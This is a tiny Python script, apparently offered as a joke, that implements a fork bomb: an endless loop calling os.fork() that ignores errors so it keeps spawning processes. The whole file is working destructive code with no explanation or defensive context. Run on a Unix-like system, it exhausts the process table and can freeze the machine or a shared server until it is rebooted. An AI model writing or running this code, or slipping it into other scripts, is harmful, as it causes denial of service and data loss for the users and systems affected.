# Forks, and so do the forks. Deserves nothing.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
